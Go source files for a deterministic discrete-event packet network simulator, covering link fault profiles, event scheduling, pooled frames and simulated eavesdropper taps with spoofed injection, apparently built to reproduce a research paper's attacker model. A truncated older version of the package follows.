	return p.Loss == 0 && p.Jitter == 0 && p.Reorder == 0 &&
		p.Duplicate == 0 && p.Bandwidth == 0
}

// Profiles returns the named preset condition grid used by the
// `conditions` artifact and the -conditions CLI flag, ordered from
// kindest to harshest.
func Profiles() []LinkProfile {
	return []LinkProfile{
		{Name: "clean"},
		{
			Name: "coffee-shop-wifi",
			Loss: 0.02, Jitter: 2 * time.Millisecond,
			Reorder: 0.02, ReorderDelay: time.Millisecond,
			Duplicate: 0.01, Bandwidth: 4 << 20,
		},
		{
			Name: "mobile-handoff",
			Loss: 0.06, Jitter: 12 * time.Millisecond,
			Reorder: 0.10, ReorderDelay: 8 * time.Millisecond,
			Duplicate: 0.03, Bandwidth: 1 << 20,
		},
		{
			Name: "congested",
			Loss: 0.12, Jitter: 6 * time.Millisecond,
			Reorder: 0.05, ReorderDelay: 4 * time.Millisecond,
			Duplicate: 0.02, Bandwidth: 512 << 10,
		},
	}
}

// ProfileNames lists the preset names, sorted.
func ProfileNames() []string {
	var names []string
	for _, p := range Profiles() {
		names = append(names, p.Name)
	}
	sort.Strings(names)
	return names
}

// ProfileByName resolves a preset by name; the error enumerates the
// valid names so CLI validation can surface them verbatim.
func ProfileByName(name string) (LinkProfile, error) {
	for _, p := range Profiles() {
		if p.Name == name {
			return p, nil
		}
	}
	return LinkProfile{}, fmt.Errorf("unknown link profile %q (known: %s)",
		name, strings.Join(ProfileNames(), " "))
}

// linkRNG is a splitmix64 stream — small, allocation-free, and fully
// determined by its seed, which is all the fault model needs.
type linkRNG struct{ state uint64 }

func (r *linkRNG) next() uint64 {
	r.state += 0x9e3779b97f4a7c15
	z := r.state
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

// chance consumes one draw and reports true with probability p.
func (r *linkRNG) chance(p float64) bool {
	return float64(r.next()>>11)/(1<<53) < p
}

// durationBelow consumes one draw and returns a duration in [0, max).
func (r *linkRNG) durationBelow(max time.Duration) time.Duration {
	return time.Duration(r.next() % uint64(max))
}

// fnv64 hashes a segment name (FNV-1a) into the PRNG seed mix, so two
// segments sharing one profile still draw independent fault streams.
func fnv64(s string) uint64 {
	h := uint64(14695981039346656037)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= 1099511628211
	}
	return h
}

// SetLinkProfile installs (or, with a Clean profile, removes) the
// segment's fault model and resets its fault PRNG, bandwidth queue, and
// counters. The PRNG state depends only on (profile seed, segment
// name): reinstalling the same profile replays the same fault sequence.
func (s *Segment) SetLinkProfile(p LinkProfile) {
	s.profile = p
	s.faulty = !p.Clean()
	s.rng = linkRNG{state: p.Seed ^ fnv64(s.name)}
	s.busyUntil = 0
	s.lost, s.duplicated = 0, 0
}

// Profile returns the segment's installed link profile.
func (s *Segment) Profile() LinkProfile { return s.profile }

// Lost reports how many unicast deliveries the link's loss model has
// eaten since the profile was installed.
func (s *Segment) Lost() int { return s.lost }

// Duplicated reports how many frames the link delivered twice.
func (s *Segment) Duplicated() int { return s.duplicated }

// serialize accounts for the bandwidth cap: the link is one shared
// medium, so a frame waits for frames queued before it and then
// occupies the wire for size/Bandwidth seconds. Returns the extra delay
// past the frame's nominal wire entry at now+senderDelay.
func (s *Segment) serialize(size int, senderDelay time.Duration) time.Duration {
	if s.profile.Bandwidth <= 0 {
		return 0
	}
	wire := s.net.now + senderDelay
	start := wire
	if s.busyUntil > start {
		start = s.busyUntil
	}
	tx := time.Duration(size) * time.Second / time.Duration(s.profile.Bandwidth)
	s.busyUntil = start + tx
	return s.busyUntil - wire
}
