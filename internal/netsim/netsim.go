// Package netsim provides a deterministic, discrete-event packet network
// simulator. It models the attacker capability of the Master and Parasite
// paper (§III): hosts exchange packets on shared segments (e.g. a public
// WiFi network) and an eavesdropper attached to a segment observes every
// frame and may inject its own, but can neither block nor modify frames in
// flight.
//
// The simulation is single-threaded and driven by a virtual clock: sending
// a packet schedules delivery events, and Network.Run drains the event
// queue in timestamp order. Equal timestamps are broken by scheduling
// order, which makes every experiment reproducible.
//
// The data plane is allocation-free in steady state: payloads live in
// pooled, ref-counted frame buffers shared by a packet's deliveries
// (copy-on-tap keeps eavesdroppers isolated from receiver mutation), and
// events live in a slab ordered by an index-based 4-ary heap. Payload
// slices handed to a Handler are therefore only valid for the duration of
// the call — a receiver that retains bytes must copy them (Packet.Clone).
//
// Two observation hooks exist: SetTrace reports deliveries (sizes only;
// the message-flow figures), and SetWireTap reports every send, delivery,
// tap delivery, and drop with payload bytes — the capture point of the
// deterministic record/replay subsystem (internal/replay).
package netsim

import (
	"errors"
	"fmt"
	"sync"
	"time"
)

// Addr identifies an interface on the simulated network. It plays the role
// of an IP address; the simulator does not interpret its contents.
type Addr string

// Protocol tags a packet payload so that multiple stacks can share one
// interface. The simulator itself treats payloads as opaque bytes.
type Protocol int

// Known protocol tags.
const (
	ProtoRaw Protocol = iota + 1
	ProtoTCP
)

// String returns the conventional name of the protocol tag.
func (p Protocol) String() string {
	switch p {
	case ProtoRaw:
		return "raw"
	case ProtoTCP:
		return "tcp"
	default:
		return fmt.Sprintf("proto(%d)", int(p))
	}
}

// Packet is a single frame on a segment.
type Packet struct {
	Src     Addr
	Dst     Addr
	Proto   Protocol
	Payload []byte
}

// Clone returns a deep copy of the packet so that receivers may retain or
// mutate payloads without aliasing the delivery frame's pooled buffer.
func (p Packet) Clone() Packet {
	cp := p
	cp.Payload = make([]byte, len(p.Payload))
	copy(cp.Payload, p.Payload)
	return cp
}

// Handler receives a packet at virtual time now. The payload is only valid
// for the duration of the call: it aliases a pooled frame buffer that is
// recycled once every delivery of the frame has run.
type Handler func(now time.Duration, pkt Packet)

// WireKind classifies a WireEvent on the simulated medium.
type WireKind uint8

// Wire event kinds, in lifecycle order: a frame is sent onto a segment,
// then delivered to its addressee and/or observed by taps — or dropped
// (segment down, receiver gone, nobody listening, or eaten by the link's
// loss model). WireDupDeliver marks the extra copy a faulty link's
// duplication model produced, so replay logs show faults explicitly.
const (
	WireSend WireKind = iota + 1
	WireDeliver
	WireTapDeliver
	WireDrop
	WireDupDeliver
)

// String returns the conventional name of the wire-event kind.
func (k WireKind) String() string {
	switch k {
	case WireSend:
		return "send"
	case WireDeliver:
		return "deliver"
	case WireTapDeliver:
		return "tap"
	case WireDrop:
		return "drop"
	case WireDupDeliver:
		return "dup"
	default:
		return fmt.Sprintf("wire(%d)", uint8(k))
	}
}

// WireEvent is one observable event on the simulated medium, reported to
// the network's wire tap (SetWireTap). Unlike TraceEvent it carries the
// payload bytes: the record/replay subsystem (internal/replay) encodes
// the full frame so a run can be re-driven from the log alone. Payload
// aliases pooled frame storage and is only valid for the duration of the
// tap call — a tap that retains bytes must copy them.
type WireEvent struct {
	Kind    WireKind
	Time    time.Duration
	Segment string
	Src     Addr
	Dst     Addr
	Proto   Protocol
	Payload []byte
}

// TraceEvent records one delivery for message-flow rendering (Fig. 1, 2
// and 4 of the paper are message sequence diagrams).
type TraceEvent struct {
	Time    time.Duration
	Segment string
	Src     Addr
	Dst     Addr
	Proto   Protocol
	Size    int
	Tapped  bool // delivered to an eavesdropper tap, not the addressee
}

// TraceLog is a pooled, pre-sized arena for captured trace events, so
// repeated capture phases (the message-flow artifact renders three) append
// into reused backing storage instead of regrowing a fresh slice.
type TraceLog struct {
	events []TraceEvent
}

var traceLogPool = sync.Pool{
	New: func() any { return &TraceLog{events: make([]TraceEvent, 0, 512)} },
}

// NewTraceLog returns an arena from the pool.
func NewTraceLog() *TraceLog { return traceLogPool.Get().(*TraceLog) }

// Append records one event.
func (l *TraceLog) Append(e TraceEvent) { l.events = append(l.events, e) }

// Events returns the captured events; the slice is valid until the next
// Reset or Release.
func (l *TraceLog) Events() []TraceEvent { return l.events }

// Reset discards captured events, keeping the arena's capacity.
func (l *TraceLog) Reset() { l.events = l.events[:0] }

// Release resets the arena and returns it to the pool.
func (l *TraceLog) Release() {
	l.Reset()
	traceLogPool.Put(l)
}

// frame is one transmitted payload, shared (ref-counted) by all of the
// packet's scheduled deliveries and recycled through the network's pool
// when the last delivery has run.
type frame struct {
	pkt  Packet // Payload is a capacity-capped view of buf
	buf  []byte // pooled backing storage, full capacity retained
	seg  *Segment
	refs int
}

// event is a scheduled callback or frame delivery, stored in the network's
// slab. Exactly one of fn, ifc, tap is set.
type event struct {
	at  time.Duration
	seq uint64
	fn  func()     // generic callback (Network.Schedule)
	fr  *frame     // payload for a delivery event
	ifc *Interface // unicast delivery target
	tap *Tap       // tap delivery target
	dup bool       // extra copy from the link's duplication model
}

// Network owns the virtual clock and the event queue. The zero value is
// not usable; create networks with New.
type Network struct {
	now time.Duration
	seq uint64

	// Event storage: a slab of records plus an index-based 4-ary heap
	// ordered by (at, seq). Popped slots go on the free list, so the
	// steady state schedules without allocating.
	events []event
	free   []int32
	heap   []int32

	framePool []*frame

	segments map[string]*Segment
	trace    func(TraceEvent)
	wiretap  func(WireEvent)

	// dropScratch materializes payloads of frames that never make it
	// onto the medium (segment down), so the wire tap still records them.
	dropScratch []byte

	// Frame-pool flow counters: every acquire must eventually be matched
	// by a final release, so acquired-released is the in-flight frame
	// count — zero at quiescence. The soak scenario asserts the balance
	// to catch reference-count leaks under sustained faulted load.
	framesAcquired int
	framesReleased int

	delivered int
	injected  int
}

// New returns an empty network at virtual time zero.
func New() *Network {
	return &Network{segments: make(map[string]*Segment)}
}

// Now reports the current virtual time.
func (n *Network) Now() time.Duration { return n.now }

// Delivered reports how many packets have been delivered to addressees.
func (n *Network) Delivered() int { return n.delivered }

// SetTrace installs a delivery trace hook. A nil hook disables tracing.
func (n *Network) SetTrace(fn func(TraceEvent)) { n.trace = fn }

// SetWireTap installs the wire-event hook used by the record/replay
// subsystem: it observes every send, delivery, tap delivery, and drop on
// the whole network, payload included. The event loop is single-threaded,
// so the hook sees events in exact scheduling order. A nil hook disables
// wire tapping (the steady-state cost is one predicate per event).
func (n *Network) SetWireTap(fn func(WireEvent)) { n.wiretap = fn }

// emitWire reports one wire event to the installed tap.
func (n *Network) emitWire(kind WireKind, seg *Segment, src, dst Addr, proto Protocol, payload []byte) {
	n.wiretap(WireEvent{
		Kind: kind, Time: n.now, Segment: seg.name,
		Src: src, Dst: dst, Proto: proto, Payload: payload,
	})
}

// push stores ev in the slab and sifts its index up the heap.
func (n *Network) push(ev event) {
	n.seq++
	ev.seq = n.seq
	var idx int32
	if k := len(n.free); k > 0 {
		idx = n.free[k-1]
		n.free = n.free[:k-1]
		n.events[idx] = ev
	} else {
		idx = int32(len(n.events))
		n.events = append(n.events, ev)
	}
	n.heap = append(n.heap, idx)
	n.siftUp(len(n.heap) - 1)
}

// before orders heap entries by timestamp, then scheduling order.
func (n *Network) before(a, b int32) bool {
	ea, eb := &n.events[a], &n.events[b]
	if ea.at != eb.at {
		return ea.at < eb.at
	}
	return ea.seq < eb.seq
}

func (n *Network) siftUp(i int) {
	h := n.heap
	for i > 0 {
		parent := (i - 1) / 4
		if !n.before(h[i], h[parent]) {
			return
		}
		h[i], h[parent] = h[parent], h[i]
		i = parent
	}
}

func (n *Network) siftDown(i int) {
	h := n.heap
	for {
		first := 4*i + 1
		if first >= len(h) {
			return
		}
		best := first
		last := first + 4
		if last > len(h) {
			last = len(h)
		}
		for c := first + 1; c < last; c++ {
			if n.before(h[c], h[best]) {
				best = c
			}
		}
		if !n.before(h[best], h[i]) {
			return
		}
		h[i], h[best] = h[best], h[i]
		i = best
	}
}

// popMin removes and returns the slab index of the earliest event.
func (n *Network) popMin() int32 {
	h := n.heap
	root := h[0]
	last := len(h) - 1
	h[0] = h[last]
	n.heap = h[:last]
	if last > 0 {
		n.siftDown(0)
	}
	return root
}

// acquireFrame fills a pooled frame with the payload produced by fill
// (which appends to its argument and returns the result).
func (n *Network) acquireFrame(seg *Segment, src, dst Addr, proto Protocol, fill func([]byte) []byte) *frame {
	var fr *frame
	if k := len(n.framePool); k > 0 {
		fr = n.framePool[k-1]
		n.framePool = n.framePool[:k-1]
	} else {
		fr = &frame{}
	}
	n.framesAcquired++
	buf := fill(fr.buf[:0])
	fr.buf = buf
	// Hand receivers a capacity-capped view so a stray append cannot
	// scribble on the pooled storage.
	fr.pkt = Packet{Src: src, Dst: dst, Proto: proto, Payload: buf[:len(buf):len(buf)]}
	fr.seg = seg
	return fr
}

// releaseFrame returns the frame's buffer to the pool once its last
// delivery has run.
func (n *Network) releaseFrame(fr *frame) {
	fr.refs--
	if fr.refs > 0 {
		return
	}
	fr.seg = nil
	n.framesReleased++
	n.framePool = append(n.framePool, fr)
}

// FrameStats reports how many pooled frames have been acquired and how
// many have been fully released since the network was created. The
// difference is the number of frames still in flight — zero whenever
// the event queue is quiescent. The soak scenario uses the balance as
// its frame-pool leak detector.
func (n *Network) FrameStats() (acquired, released int) {
	return n.framesAcquired, n.framesReleased
}

// Schedule runs fn at virtual time now+d. A non-positive d runs fn on the
// next queue drain, still after all events already due.
func (n *Network) Schedule(d time.Duration, fn func()) {
	if d < 0 {
		d = 0
	}
	n.push(event{at: n.now + d, fn: fn})
}

// Step executes the next pending event and returns false when the queue is
// empty.
func (n *Network) Step() bool {
	if len(n.heap) == 0 {
		return false
	}
	idx := n.popMin()
	ev := n.events[idx]
	n.events[idx] = event{} // drop fn/frame references for reuse
	n.free = append(n.free, idx)
	n.now = ev.at
	switch {
	case ev.ifc != nil:
		n.deliver(ev.fr, ev.ifc, ev.dup)
	case ev.tap != nil:
		n.deliverTap(ev.fr, ev.tap)
	default:
		ev.fn()
	}
	return true
}

// deliver runs a unicast delivery and releases the frame reference. dup
// marks the extra copy produced by a faulty link's duplication model:
// the receiver gets a genuine duplicate arrival, and the wire tap
// records it distinctly so replay logs pin the fault.
func (n *Network) deliver(fr *frame, target *Interface, dup bool) {
	if !target.dropRx && target.handler != nil {
		n.delivered++
		if n.trace != nil {
			n.trace(TraceEvent{
				Time: n.now, Segment: fr.seg.name,
				Src: fr.pkt.Src, Dst: fr.pkt.Dst,
				Proto: fr.pkt.Proto, Size: len(fr.pkt.Payload),
			})
		}
		if n.wiretap != nil {
			kind := WireDeliver
			if dup {
				kind = WireDupDeliver
			}
			n.emitWire(kind, fr.seg, fr.pkt.Src, fr.pkt.Dst, fr.pkt.Proto, fr.pkt.Payload)
		}
		target.handler(n.now, fr.pkt)
	} else if n.wiretap != nil {
		// The addressee exists but is not receiving (left the network or
		// never installed a handler): the frame dies here.
		n.emitWire(WireDrop, fr.seg, fr.pkt.Src, fr.pkt.Dst, fr.pkt.Proto, fr.pkt.Payload)
	}
	n.releaseFrame(fr)
}

// deliverTap runs a promiscuous delivery and releases the frame reference.
func (n *Network) deliverTap(fr *frame, target *Tap) {
	if target.handler != nil {
		if n.trace != nil {
			n.trace(TraceEvent{
				Time: n.now, Segment: fr.seg.name,
				Src: fr.pkt.Src, Dst: fr.pkt.Dst,
				Proto: fr.pkt.Proto, Size: len(fr.pkt.Payload),
				Tapped: true,
			})
		}
		if n.wiretap != nil {
			n.emitWire(WireTapDeliver, fr.seg, fr.pkt.Src, fr.pkt.Dst, fr.pkt.Proto, fr.pkt.Payload)
		}
		target.handler(n.now, fr.pkt)
	}
	n.releaseFrame(fr)
}

// Run drains the event queue. Events may schedule further events; Run
// returns only when the network is quiescent or maxEvents callbacks have
// executed (a guard against runaway feedback loops; pass 0 for no limit).
func (n *Network) Run(maxEvents int) int {
	executed := 0
	for n.Step() {
		executed++
		if maxEvents > 0 && executed >= maxEvents {
			break
		}
	}
	return executed
}

// Pending reports how many events are queued.
func (n *Network) Pending() int { return len(n.heap) }

// NextEventAt reports the timestamp of the earliest queued event. The
// sharded fabric uses it to pick the next conservative time window, so
// idle stretches of virtual time are skipped instead of spun through.
func (n *Network) NextEventAt() (time.Duration, bool) {
	if len(n.heap) == 0 {
		return 0, false
	}
	return n.events[n.heap[0]].at, true
}

// RunUntil drains events with timestamps no later than deadline.
func (n *Network) RunUntil(deadline time.Duration) int {
	executed := 0
	for len(n.heap) > 0 && n.events[n.heap[0]].at <= deadline {
		if !n.Step() {
			break
		}
		executed++
	}
	if n.now < deadline {
		n.now = deadline
	}
	return executed
}

// NewSegment creates a broadcast domain (a WiFi network, a LAN, a WAN hop)
// with the given base propagation latency. Segment names must be unique.
func (n *Network) NewSegment(name string, latency time.Duration) (*Segment, error) {
	if _, dup := n.segments[name]; dup {
		return nil, fmt.Errorf("netsim: duplicate segment %q", name)
	}
	s := &Segment{net: n, name: name, latency: latency, byAddr: make(map[Addr]*Interface)}
	n.segments[name] = s
	return s, nil
}

// MustSegment is NewSegment for program initialisation; it panics on a
// duplicate name.
func (n *Network) MustSegment(name string, latency time.Duration) *Segment {
	s, err := n.NewSegment(name, latency)
	if err != nil {
		panic(err)
	}
	return s
}

// Segment is a broadcast domain. Every attached interface with a matching
// destination address receives unicast frames; taps receive everything.
type Segment struct {
	net     *Network
	name    string
	latency time.Duration
	ifaces  []*Interface
	byAddr  map[Addr]*Interface // address index: attach checks and delivery lookups stay O(1) at fleet scale
	taps    []*Tap
	down    bool

	// Fault model (see link.go). faulty caches !profile.Clean() so the
	// perfect-wire fast path stays a single predicate with zero PRNG
	// draws — what keeps clean runs byte-identical to the historical
	// simulator.
	profile    LinkProfile
	faulty     bool
	rng        linkRNG
	busyUntil  time.Duration
	lost       int
	duplicated int
}

// Name returns the segment's name.
func (s *Segment) Name() string { return s.name }

// Latency returns the segment's base propagation delay.
func (s *Segment) Latency() time.Duration { return s.latency }

// SetDown disconnects the segment: frames sent while down are dropped.
// This models the victim leaving the network (§VI-C: the victim moves to a
// different, e.g. home, network and the C&C channel must survive).
func (s *Segment) SetDown(down bool) { s.down = down }

// ErrAddrInUse is returned when attaching a duplicate address to a segment.
var ErrAddrInUse = errors.New("netsim: address already attached to segment")

// Attach connects an interface with the given address. extraDelay models
// the distance between the station and the access point; the eavesdropper
// typically has a smaller delay than the remote web server, which is what
// lets its spoofed segment win the race (§V).
func (s *Segment) Attach(addr Addr, extraDelay time.Duration, h Handler) (*Interface, error) {
	if _, dup := s.byAddr[addr]; dup {
		return nil, fmt.Errorf("%w: %s on %s", ErrAddrInUse, addr, s.name)
	}
	ifc := &Interface{seg: s, addr: addr, delay: extraDelay, handler: h}
	s.ifaces = append(s.ifaces, ifc)
	s.byAddr[addr] = ifc
	return ifc, nil
}

// lookup returns the interface attached under addr, or nil.
func (s *Segment) lookup(addr Addr) *Interface { return s.byAddr[addr] }

// MustAttach is Attach for program initialisation; it panics on error.
func (s *Segment) MustAttach(addr Addr, extraDelay time.Duration, h Handler) *Interface {
	ifc, err := s.Attach(addr, extraDelay, h)
	if err != nil {
		panic(err)
	}
	return ifc
}

// AttachTap connects a promiscuous listener: it observes every frame on
// the segment regardless of destination. This is the paper's eavesdropping
// master (§III): it sees TCP source ports and sequence numbers and can
// therefore craft correct spoofed responses.
func (s *Segment) AttachTap(extraDelay time.Duration, h Handler) *Tap {
	t := &Tap{seg: s, delay: extraDelay, handler: h}
	s.taps = append(s.taps, t)
	return t
}

// Interface is an attachment point for a host's protocol stack.
type Interface struct {
	seg     *Segment
	addr    Addr
	delay   time.Duration
	handler Handler
	dropRx  bool
}

// Addr returns the interface address.
func (i *Interface) Addr() Addr { return i.addr }

// Segment returns the segment the interface is attached to.
func (i *Interface) Segment() *Segment { return i.seg }

// SetHandler replaces the receive handler (used when a stack is layered on
// an already-attached interface).
func (i *Interface) SetHandler(h Handler) { i.handler = h }

// SetReceiveDrop silences inbound delivery without detaching, modelling a
// host that left the network but whose address remains configured.
func (i *Interface) SetReceiveDrop(drop bool) { i.dropRx = drop }

// Send transmits a frame. Src is forced to the interface address unless
// spoofed sending is required, in which case use SendSpoofed.
func (i *Interface) Send(pkt Packet) {
	pkt.Src = i.addr
	i.seg.transmit(i.delay, pkt)
}

// SendSpoofed transmits a frame preserving whatever source address the
// caller set. Injected attack segments use this to impersonate the server.
func (i *Interface) SendSpoofed(pkt Packet) {
	i.seg.transmit(i.delay, pkt)
}

// SendPayload transmits a frame whose payload is produced by fill, which
// must append the wire bytes to its argument and return the result. The
// bytes land directly in a pooled frame buffer, so hot senders (the TCP
// stack) marshal exactly once with no intermediate allocation.
func (i *Interface) SendPayload(dst Addr, proto Protocol, fill func([]byte) []byte) {
	i.seg.transmitPayload(i.delay, i.addr, dst, proto, fill)
}

// Tap is a promiscuous observer that may also inject spoofed frames.
type Tap struct {
	seg     *Segment
	delay   time.Duration
	handler Handler
}

// Inject transmits a frame with an arbitrary (spoofed) source address.
func (t *Tap) Inject(pkt Packet) {
	t.seg.net.injected++
	t.seg.transmit(t.delay, pkt)
}

// InjectPayload transmits a spoofed frame whose payload is produced by
// fill (see Interface.SendPayload) — the injection fast path of the
// master's TCP spoofing module.
func (t *Tap) InjectPayload(src, dst Addr, proto Protocol, fill func([]byte) []byte) {
	t.seg.net.injected++
	t.seg.transmitPayload(t.delay, src, dst, proto, fill)
}

// InjectAfter transmits a spoofed frame after an additional delay. The
// payload must remain valid until the frame goes out.
func (t *Tap) InjectAfter(d time.Duration, pkt Packet) {
	t.seg.net.injected++
	t.seg.net.Schedule(d, func() { t.seg.transmit(t.delay, pkt) })
}

// Injected reports how many frames were injected network-wide.
func (n *Network) Injected() int { return n.injected }

// transmit schedules delivery of pkt to the addressee and to all taps,
// copying the payload into a pooled frame.
func (s *Segment) transmit(senderDelay time.Duration, pkt Packet) {
	s.transmitPayload(senderDelay, pkt.Src, pkt.Dst, pkt.Proto,
		func(dst []byte) []byte { return append(dst, pkt.Payload...) })
}

// transmitPayload is the shared transmit path: one pooled frame serves the
// unicast delivery zero-copy; taps observe a copy-on-tap duplicate so a
// receiver that mutates its payload cannot alter what the eavesdropper
// (or the genuine addressee) sees.
func (s *Segment) transmitPayload(senderDelay time.Duration, src, dst Addr, proto Protocol, fill func([]byte) []byte) {
	if s.down {
		if s.net.wiretap != nil {
			// The frame never reaches the medium; materialize the payload
			// into per-network scratch so the tap still records the drop.
			s.net.dropScratch = fill(s.net.dropScratch[:0])
			s.net.emitWire(WireDrop, s, src, dst, proto, s.net.dropScratch)
		}
		return
	}
	target := s.byAddr[dst]
	if target == nil && len(s.taps) == 0 {
		if s.net.wiretap != nil {
			// Sent onto the wire, but nobody is attached to hear it.
			s.net.dropScratch = fill(s.net.dropScratch[:0])
			s.net.emitWire(WireSend, s, src, dst, proto, s.net.dropScratch)
		}
		return
	}
	main := s.net.acquireFrame(s, src, dst, proto, fill)
	if s.net.wiretap != nil {
		s.net.emitWire(WireSend, s, src, dst, proto, main.pkt.Payload)
	}
	// Fault model: every draw comes from the segment's private PRNG in a
	// fixed order per frame (serialize, loss, else duplication, then
	// jitter+reorder per delivered copy), so the fault sequence is a pure
	// function of (link seed, send order) — never of worker scheduling.
	// A clean segment takes none of these branches and performs zero
	// draws, keeping its wire events byte-identical to a profile-less one.
	deliveries := 0
	if target != nil {
		deliveries = 1
	}
	var ser time.Duration
	if s.faulty {
		ser = s.serialize(len(main.pkt.Payload), senderDelay)
		if deliveries > 0 {
			if s.profile.Loss > 0 && s.rng.chance(s.profile.Loss) {
				// The addressee never hears the frame; taps (the
				// eavesdropper at the access point) still do. The drop is
				// recorded at send time.
				deliveries = 0
				s.lost++
				if s.net.wiretap != nil {
					s.net.emitWire(WireDrop, s, src, dst, proto, main.pkt.Payload)
				}
			} else if s.profile.Duplicate > 0 && s.rng.chance(s.profile.Duplicate) {
				deliveries = 2
				s.duplicated++
			}
		}
	}
	if deliveries == 0 && len(s.taps) == 0 {
		// Lost with no eavesdroppers: nothing will ever hold this frame.
		main.refs = 1
		s.net.releaseFrame(main)
		return
	}
	tapFr := main
	if deliveries > 0 {
		main.refs = deliveries
		if len(s.taps) > 0 {
			pay := main.pkt.Payload
			tapFr = s.net.acquireFrame(s, src, dst, proto,
				func(dst []byte) []byte { return append(dst, pay...) })
		}
	}
	if tapFr != main || deliveries == 0 {
		tapFr.refs = len(s.taps)
	}
	base := s.net.now + senderDelay + ser + s.latency
	for copyNo := 0; copyNo < deliveries; copyNo++ {
		extra := time.Duration(0)
		if s.faulty {
			if s.profile.Jitter > 0 {
				extra += s.rng.durationBelow(s.profile.Jitter)
			}
			if s.profile.Reorder > 0 && s.rng.chance(s.profile.Reorder) {
				extra += s.profile.ReorderDelay
			}
		}
		s.net.push(event{at: base + target.delay + extra, fr: main, ifc: target, dup: copyNo > 0})
	}
	for _, tap := range s.taps {
		s.net.push(event{at: base + tap.delay, fr: tapFr, tap: tap})
	}
}

// Router forwards frames between two segments, modelling the WiFi
// gateway's uplink to the internet. It rewrites nothing: addresses are
// global, as in the paper's message diagrams.
type Router struct {
	a, b *Interface
}

// NewRouter attaches a forwarding element with address addr to both
// segments. Frames destined to other addresses on the far segment are
// relayed; the router is invisible to the endpoints.
func NewRouter(addr Addr, segA, segB *Segment, delay time.Duration) (*Router, error) {
	r := &Router{}
	known := func(seg *Segment, dst Addr) bool {
		return seg.lookup(dst) != nil
	}
	fwd := func(to *Segment) Handler {
		return func(_ time.Duration, pkt Packet) {
			// The delivery frame is recycled when this handler returns;
			// clone before the deferred re-transmit.
			out := pkt.Clone() // keep the original (possibly spoofed) source
			to.net.Schedule(0, func() { to.transmit(delay, out) })
		}
	}
	ifaceA, err := segA.Attach(addr, delay, nil)
	if err != nil {
		return nil, fmt.Errorf("router attach %s: %w", segA.name, err)
	}
	ifaceB, err := segB.Attach(addr, delay, nil)
	if err != nil {
		return nil, fmt.Errorf("router attach %s: %w", segB.name, err)
	}
	// A router forwards frames whose destination lives on the other side.
	// It taps both segments so it can pick up transit traffic.
	segA.AttachTap(delay, func(_ time.Duration, pkt Packet) {
		if pkt.Dst != addr && !known(segA, pkt.Dst) && known(segB, pkt.Dst) {
			fwd(segB)(0, pkt)
		}
	})
	segB.AttachTap(delay, func(_ time.Duration, pkt Packet) {
		if pkt.Dst != addr && !known(segB, pkt.Dst) && known(segA, pkt.Dst) {
			fwd(segA)(0, pkt)
		}
	})
	r.a, r.b = ifaceA, ifaceB
	return r, nil
}
