// Package netsim provides a deterministic, discrete-event packet network
// simulator. It models the attacker capability of the Master and Parasite
// paper (§III): hosts exchange packets on shared segments (e.g. a public
// WiFi network) and an eavesdropper attached to a segment observes every
// frame and may inject its own, but can neither block nor modify frames in
// flight.
//
// The simulation is single-threaded and driven by a virtual clock: sending
// a packet schedules delivery events, and Network.Run drains the event
// queue in timestamp order. Equal timestamps are broken by scheduling
// order, which makes every experiment reproducible.
package netsim

import (
	"container/heap"
	"errors"
	"fmt"
	"time"
)

// Addr identifies an interface on the simulated network. It plays the role
// of an IP address; the simulator does not interpret its contents.
type Addr string

// Protocol tags a packet payload so that multiple stacks can share one
// interface. The simulator itself treats payloads as opaque bytes.
type Protocol int

// Known protocol tags.
const (
	ProtoRaw Protocol = iota + 1
	ProtoTCP
)

// String returns the conventional name of the protocol tag.
func (p Protocol) String() string {
	switch p {
	case ProtoRaw:
		return "raw"
	case ProtoTCP:
		return "tcp"
	default:
		return fmt.Sprintf("proto(%d)", int(p))
	}
}

// Packet is a single frame on a segment.
type Packet struct {
	Src     Addr
	Dst     Addr
	Proto   Protocol
	Payload []byte
}

// Clone returns a deep copy of the packet so that receivers may retain or
// mutate payloads without aliasing the sender's buffer.
func (p Packet) Clone() Packet {
	cp := p
	cp.Payload = make([]byte, len(p.Payload))
	copy(cp.Payload, p.Payload)
	return cp
}

// Handler receives a packet at virtual time now.
type Handler func(now time.Duration, pkt Packet)

// TraceEvent records one delivery for message-flow rendering (Fig. 1, 2
// and 4 of the paper are message sequence diagrams).
type TraceEvent struct {
	Time    time.Duration
	Segment string
	Src     Addr
	Dst     Addr
	Proto   Protocol
	Size    int
	Tapped  bool // delivered to an eavesdropper tap, not the addressee
}

// event is a scheduled callback.
type event struct {
	at  time.Duration
	seq uint64
	fn  func()
}

type eventQueue []*event

func (q eventQueue) Len() int { return len(q) }

func (q eventQueue) Less(i, j int) bool {
	if q[i].at != q[j].at {
		return q[i].at < q[j].at
	}
	return q[i].seq < q[j].seq
}

func (q eventQueue) Swap(i, j int) { q[i], q[j] = q[j], q[i] }

func (q *eventQueue) Push(x any) {
	ev, ok := x.(*event)
	if !ok {
		return
	}
	*q = append(*q, ev)
}

func (q *eventQueue) Pop() any {
	old := *q
	n := len(old)
	ev := old[n-1]
	old[n-1] = nil
	*q = old[:n-1]
	return ev
}

// Network owns the virtual clock and the event queue. The zero value is
// not usable; create networks with New.
type Network struct {
	now      time.Duration
	seq      uint64
	queue    eventQueue
	segments map[string]*Segment
	trace    func(TraceEvent)

	delivered int
	injected  int
}

// New returns an empty network at virtual time zero.
func New() *Network {
	return &Network{segments: make(map[string]*Segment)}
}

// Now reports the current virtual time.
func (n *Network) Now() time.Duration { return n.now }

// Delivered reports how many packets have been delivered to addressees.
func (n *Network) Delivered() int { return n.delivered }

// SetTrace installs a delivery trace hook. A nil hook disables tracing.
func (n *Network) SetTrace(fn func(TraceEvent)) { n.trace = fn }

// Schedule runs fn at virtual time now+d. A non-positive d runs fn on the
// next queue drain, still after all events already due.
func (n *Network) Schedule(d time.Duration, fn func()) {
	if d < 0 {
		d = 0
	}
	n.seq++
	heap.Push(&n.queue, &event{at: n.now + d, seq: n.seq, fn: fn})
}

// Step executes the next pending event and returns false when the queue is
// empty.
func (n *Network) Step() bool {
	if n.queue.Len() == 0 {
		return false
	}
	ev, ok := heap.Pop(&n.queue).(*event)
	if !ok {
		return false
	}
	n.now = ev.at
	ev.fn()
	return true
}

// Run drains the event queue. Events may schedule further events; Run
// returns only when the network is quiescent or maxEvents callbacks have
// executed (a guard against runaway feedback loops; pass 0 for no limit).
func (n *Network) Run(maxEvents int) int {
	executed := 0
	for n.Step() {
		executed++
